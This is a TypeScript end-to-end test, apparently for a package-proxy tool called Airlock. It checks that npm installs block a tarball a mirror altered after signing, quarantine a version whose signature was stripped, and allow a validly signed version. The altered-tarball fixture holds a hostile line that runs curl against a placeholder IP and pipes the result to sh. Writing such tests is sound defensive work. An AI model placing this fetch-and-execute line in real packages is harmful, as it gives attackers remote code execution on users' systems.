/**
 * Registry signatures with the real npm client and the built-in policy. The registry signs
 * `name@version:integrity` for every version; a mirror or proxy between it and Airlock that swaps
 * a tarball and its integrity cannot sign the new pair, and one that strips the signature leaves
 * the version unsigned. Airlock trusts the keys its configuration names (here the fixture
 * registry's, from a key file in the `/-/npm/v1/keys` format) and checks every tarball against them.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { newSigningKey, packageTarball } from '../../support/npm-registry/index.ts';
import { daysAgo, editPackument, quarantineIdIn, signalsE2e } from './support.ts';

test('a version a mirror altered after the registry signed it is blocked, a stripped signature is held, a signed one installs', async (t) => {
  const key = newSigningKey();
  const dir = await mkdtemp(join(tmpdir(), 'airlock-registry-keys-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  const keysFile = join(dir, 'registry-keys.json');
  await writeFile(keysFile, JSON.stringify({ keys: [{ expires: null, keyid: key.keyid, keytype: 'ecdsa-sha2-nistp256', scheme: 'ecdsa-sha2-nistp256', key: key.publicDer.toString('base64') }] }));
  const file = (v: string) => [{ path: 'index.js', content: `module.exports = ${JSON.stringify(v)};\n` }];
  const s = await signalsE2e({
    signingKey: key,
    packages: [{ name: 'signed-lib', versions: ['1.0.0', '1.1.0', '1.2.0'].map((version) => ({ version, publishedAt: daysAgo(100), files: file(version) })), distTags: { latest: '1.0.0' } }],
    config: { repository: { registryKeys: [keysFile] }, policy: { data: { airlock: { settings: { registry_signature_missing: 'quarantine' } } } } },
  });
  t.after(() => s.close());

  // The mirror serves 1.1.0 with other code and that code's integrity, under the registry's
  // signature of the original; and 1.2.0 with its signature removed.
  const altered = packageTarball({ name: 'signed-lib', version: '1.1.0', description: 'signed-lib fixture', main: 'index.js', license: 'MIT' }, [
    { path: 'index.js', content: "require('child_process').exec('curl -s http://203.0.113.9/x | sh');\n" },
  ]);
  s.registry.putTarball('signed-lib', 'signed-lib-1.1.0.tgz', altered.bytes);
  await editPackument(s.registry, 'signed-lib', (doc) => {
    const dist = (v: string) => doc.versions[v]?.['dist'] as Record<string, unknown>;
    Object.assign(dist('1.1.0'), { integrity: altered.integrity, shasum: altered.shasum });
    delete dist('1.2.0')['signatures'];
  });

  const p = await s.project();
  const signed = await p.npm(['install', 'signed-lib@1.0.0']);
  assert.equal(signed.code, 0, signed.output);
  assert.equal(await readFile(join(p.dir, 'node_modules/signed-lib/index.js'), 'utf8'), 'module.exports = "1.0.0";\n');
  const decisions = await s.api<{ items: Array<{ phase: string; facts: { registry_signature?: unknown } }> }>('GET', `decisions?purl=${encodeURIComponent('pkg:npm/signed-lib@1.0.0')}`);
  const judged = decisions.body.items.find((d) => d.phase === 'artifact');
  assert.deepEqual(judged?.facts.registry_signature, { status: 'verified', keyid: key.keyid, error: null, keyids: [key.keyid] });

  const swapped = await p.npm(['install', 'signed-lib@1.1.0']);
  assert.notEqual(swapped.code, 0, swapped.output);
  assert.match(
    swapped.output,
    new RegExp(
      `signed-lib@1\\.1\\.0 is blocked by Airlock policy: signed-lib@1\\.1\\.0: its registry signature does not check out \\(the signature by ${key.keyid.replace(/[+/]/g, '\\$&')} does not verify over signed-lib@1\\.1\\.0:sha512-\\S+\\): the metadata was altered after the registry signed it \\[integrity\\.signature_invalid\\]`,
    ),
  );
  assert.equal(await readFile(join(p.dir, 'node_modules/signed-lib/index.js'), 'utf8'), 'module.exports = "1.0.0";\n', 'the altered code was never installed');

  const stripped = await p.npm(['install', 'signed-lib@1.2.0']);
  assert.notEqual(stripped.code, 0, stripped.output);
  assert.match(stripped.output, /signed-lib@1\.2\.0 is quarantined by Airlock: .*signed-lib@1\.2\.0 has no registry signature \[integrity\.signature_missing\]/);
  const id = quarantineIdIn(stripped.output);
  assert.notEqual(id, null);
  const record = await s.api<{ facts: { registry_signature: unknown } }>('GET', `quarantine/${id}`);
  assert.deepEqual(record.body.facts.registry_signature, { status: 'absent', keyid: null, error: null, keyids: [] });
  assert.equal(await readFile(join(p.dir, 'node_modules/signed-lib/index.js'), 'utf8'), 'module.exports = "1.0.0";\n');
});
